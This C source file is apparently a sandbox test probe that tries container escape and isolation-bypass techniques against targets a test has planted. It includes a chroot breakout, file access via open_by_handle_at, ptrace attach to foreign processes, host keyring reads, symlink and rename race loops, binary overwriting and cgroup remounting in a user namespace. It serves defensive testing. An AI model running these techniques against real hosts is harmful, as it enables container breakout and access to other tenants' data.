/* What an attacker does inside of a container, where a shell has no word for it. The exit code is 0 when it got through.
 * Everything is aimed at what a test has put there for it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int show(int file)
{
	char text[256];
	ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
	return length > 0 && write(1, text, length) == length ? 0 : 1;
}

/* Opens for writing, and writes nothing: opening is what a read-only mount refuses. */
static int open_for_writing(char **paths)
{
	for (; *paths != NULL; paths++) {
		int file = open(*paths, O_WRONLY);
		if (file >= 0) {
			puts(*paths);
			return 0;
		}
	}
	return 1;
}

/* Reads a file by way of a directory that somebody left open. */
static int by_descriptor(char **words)
{
	return show(openat(atoi(words[0]), words[1], O_RDONLY));
}

/* Out of a chroot, by way of a directory above a second one. */
static int leave_chroot(char **words)
{
	if (mkdir("below", 0700) != 0 || chroot("below") != 0)
		return 1;
	for (int step = 0; step < 64; step++)
		if (chdir("..") != 0)
			return 1;
	return chroot(".") == 0 ? show(open(words[0], O_RDONLY)) : 1;
}

static int shared_memory(char **words)
{
	int segment = shmget(atoi(words[0]), 0, 0);
	char *text = segment < 0 ? (void *)-1 : shmat(segment, NULL, SHM_RDONLY);
	return text != (void *)-1 && puts(text) > 0 ? 0 : 1;
}

static int named(const char *name, int (*act)(int, const struct sockaddr *, socklen_t))
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	size_t length = strlen(name);
	memcpy(address.sun_path + 1, name, length);
	int end = socket(AF_UNIX, SOCK_STREAM, 0);
	return act(end, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length) == 0 ? end : -1;
}

static int abstract_socket(char **words)
{
	return named(words[0], connect) < 0;
}

/* The tests' own: a server for abstract_socket to look for. */
static int listen_at(char **words)
{
	if (listen(named(words[0], bind), 8) != 0)
		return 1;
	puts("listening");
	fflush(stdout);
	return pause();
}

static int socket_file(char **words)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	strncpy(address.sun_path, words[0], sizeof address.sun_path - 1);
	return connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, sizeof address) == 0 ? 0 : 1;
}

static int reach_port(char **words)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(atoi(words[1])) };
	inet_pton(AF_INET, words[0], &address.sin_addr);
	struct timeval patience = { .tv_usec = 500000 };
	int end = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(end, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
	return connect(end, (void *)&address, sizeof address) == 0 ? 0 : 1;
}

#define SEARCH 10
#define READ 11
#define UNLINK 9
#define SESSION -3
#define USER -4

static int key_of(char **words)
{
	int rings[] = { SESSION, USER };
	for (int at = 0; at < 2; at++) {
		char text[64] = "";
		long key = syscall(SYS_keyctl, SEARCH, rings[at], "user", words[0], 0);
		if (key > 0 && syscall(SYS_keyctl, READ, key, text, sizeof text - 1) > 0)
			return puts(text) > 0 ? 0 : 1;
	}
	return 1;
}

/* Where nobody has logged in, no session has it, and nothing may be changed in it. */
static void own_user_keyring(void)
{
	syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, NULL);
	syscall(SYS_keyctl, 8 /* LINK */, USER, -3 /* the session's */);
}

/* The tests' own: a key in the user's keyring of the machine, for key_of to look for, and away with it again. */
static int leave_key(char **words)
{
	own_user_keyring();
	long key = syscall(SYS_add_key, "user", words[0], "sentinel", 8, USER);
	return key > 0 && syscall(SYS_keyctl, 5 /* SETPERM */, key, 0x3f3f0000) == 0 ? 0 : 1;
}

static int take_key_away(char **words)
{
	own_user_keyring();
	long key = syscall(SYS_keyctl, SEARCH, USER, "user", words[0], 0);
	return key > 0 && syscall(SYS_keyctl, UNLINK, key, USER) == 0 ? 0 : 1;
}

static int is_number(const char *text)
{
	return *text >= '1' && *text <= '9';
}

/* Any process that was started with this word: another container's, if one can be seen. */
static int trace(char **words)
{
	DIR *all = opendir("/proc");
	for (struct dirent *one; all != NULL && (one = readdir(all)) != NULL;) {
		char path[64], line[256] = "";
		int pid = is_number(one->d_name) ? atoi(one->d_name) : 0;
		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		int file = pid > 0 && pid != getpid() ? open(path, O_RDONLY) : -1;
		ssize_t length = file < 0 ? 0 : read(file, line, sizeof line - 1);
		if (length > 0 && memmem(line, length, words[0], strlen(words[0])) != NULL && ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
			return 0;
		close(file);
	}
	return 1;
}

/* Looks at every process that comes, until one shows a program or a file that is not of this root. */
static int spy(char **words)
{
	for (;;) {
		DIR *all = opendir("/proc");
		for (struct dirent *one; (one = readdir(all)) != NULL;) {
			char path[64], target[PATH_MAX] = "";
			if (!is_number(one->d_name) || atoi(one->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%.20s/exe", one->d_name);
			if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, words[0]) != NULL) {
				puts(target);
				return 0;
			}
		}
		closedir(all);
	}
}

/* Two names change places without end: a path is never twice the same. */
static int swap(char **words)
{
	for (;;)
		if (renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) != 0)
			return 1;
}

/* Waits for a directory to be made and puts a symlink in its place before anything is written there. */
static int plant(char **words)
{
	char aside[PATH_MAX];
	snprintf(aside, sizeof aside, "%s.aside", words[0]);
	for (;;) {
		if (rename(words[0], aside) == 0 && symlink(words[1], words[0]) == 0)
			usleep(200);
		remove(aside);
	}
}

/* Goes on behind the container's back until the program that runs from the file lets go of it. */
static int overwrite(char **words)
{
	if (fork() != 0)
		return 0;
	setsid();
	for (int round = 0; round < 3000; round++, usleep(1000)) {
		int file = open(words[0], O_WRONLY);
		if (file >= 0)
			return write(file, "overwritten", 11) == 11 ? 0 : 1;
		if (errno != ETXTBSY)
			return 1;
	}
	return 1;
}

/* A user namespace of one's own gives every capability there: enough to mount the control groups anew. */
static int own_groups(char **words)
{
	(void)words;
	if (unshare(CLONE_NEWUSER) != 0 || unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0)
		return 1;
	char name[] = "/tmp/groups-XXXXXX";
	if (mkdtemp(name) == NULL)
		return 1;
	return mount("none", name, "cgroup2", 0, NULL) == 0 || mount("none", name, "cgroup", 0, "pids") == 0 ? 0 : 1;
}

/* A kernel that lacks the family says so; a filter says that it is not permitted. */
static int make_socket(char **words)
{
	return socket(atoi(words[0]), atoi(words[1]), 0) >= 0 || errno != EPERM ? 0 : 1;
}

/* A file of the machine by its number, from any directory of the same file system. */
static int by_handle(char **words)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle;
	handle.head.handle_type = atoi(words[1]);
	handle.head.handle_bytes = strlen(words[2]) / 2;
	for (unsigned at = 0; at < handle.head.handle_bytes; at++)
		sscanf(words[2] + 2 * at, "%2hhx", &handle.head.f_handle[at]);
	return show(open_by_handle_at(open(words[0], O_RDONLY), &handle.head, O_RDONLY));
}

static int handle_of(char **words)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id;
	if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount_id, 0) != 0)
		return 1;
	printf("%d ", handle.head.handle_type);
	for (unsigned at = 0; at < handle.head.handle_bytes; at++)
		printf("%02x", handle.head.f_handle[at]);
	return puts("") > 0 ? 0 : 1;
}

/* By another name it is in the place of a program of the image: whoever runs it is told about in /out. */
static int tell(const char *name)
{
	int file = open("/out/told", O_WRONLY | O_CREAT | O_APPEND, 0666);
	return dprintf(file, "%s\n", name) > 0 ? 0 : 1;
}

int main(int count, char **words)
{
	const char *slash = strrchr(words[0], '/');
	if (strcmp(slash == NULL ? words[0] : slash + 1, "probe") != 0)
		return tell(words[0]);
	static const struct { const char *name; int words; int (*act)(char **); } acts[] = {
		{ "open-for-writing", 1, open_for_writing }, { "by-descriptor", 2, by_descriptor },
		{ "leave-chroot", 1, leave_chroot }, { "shared-memory", 1, shared_memory },
		{ "abstract-socket", 1, abstract_socket }, { "listen", 1, listen_at }, { "reach-port", 2, reach_port }, { "socket-file", 1, socket_file },
		{ "key", 1, key_of }, { "leave-key", 1, leave_key },
		{ "take-key-away", 1, take_key_away }, { "trace", 1, trace }, { "spy", 1, spy }, { "swap", 2, swap }, { "plant", 2, plant },
		{ "overwrite", 1, overwrite }, { "own-groups", 0, own_groups }, { "socket", 2, make_socket },
		{ "by-handle", 3, by_handle }, { "handle-of", 1, handle_of },
	};
	for (size_t at = 0; count > 1 && at < sizeof acts / sizeof *acts; at++)
		if (strcmp(words[1], acts[at].name) == 0 && count - 2 >= acts[at].words)
			return acts[at].act(words + 2);
	return 2;
}
